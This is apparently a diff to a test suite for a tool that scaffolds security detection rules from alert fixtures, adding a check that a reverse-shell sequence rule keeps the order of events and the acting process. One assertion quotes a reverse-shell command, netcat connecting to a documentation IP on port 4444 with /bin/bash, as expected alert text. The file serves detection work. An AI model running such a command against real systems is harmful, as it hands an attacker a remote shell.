@@ -53,6 +53,10 @@ describe.each(['lateral-movement', 'credential-theft', 'exfil', 'escape-nsenter'
         const made = scaffoldFrom(subject!, identity, options);
         if ('problem' in made) throw new Error(`${alert.rule.title}: ${made.problem}`);
         const rules = loaded(made.text);
+        expect([made.text.includes('\nsequence:'), made.text.includes('raw:')]).toEqual([
+          Object.keys(alert.steps).length > 1,
+          false,
+        ]);
         const again = alertsOf(rules, events);
         expect(again.length, `${alert.rule.title}\n${made.text}`).toBeGreaterThan(0);
         const detection = made.text.slice(made.text.indexOf('detection:'), made.text.indexOf('tests:'));
@@ -61,6 +65,20 @@ describe.each(['lateral-movement', 'credential-theft', 'exfil', 'escape-nsenter'
     });
   },
 );
+
+it('keeps the order of a story, and who did it', () => {
+  const events = eventsOf('lateral-movement');
+  const alert = alertsOf(shippedRules(), events).find(({ rule }) => rule.title === 'Reverse shell by a network tool');
+  const made = scaffoldFrom(subjectOfAlert(alert!, decodeLine)!, identity, options);
+  if ('problem' in made) throw new Error(made.problem);
+  const [rule] = loaded(made.text);
+  expect(rule?.sequence).toMatchObject({ by: { type: 'process' }, steps: [{ id: 'exec' }, { id: 'egress' }] });
+  const [again] = alertsOf([rule!], events);
+  expect(again?.steps).toEqual({ exec: { event: 0 }, egress: { event: 1 } });
+  expect(again?.message).toContain('nc.traditional 198.51.100.66 4444 -e /bin/bash');
+  // The same events the other way round are not the story.
+  expect(alertsOf([rule!], [...events].reverse())).toEqual([]);
+});
 
 it('makes no rule that would fire on everything', () => {
   const record = {
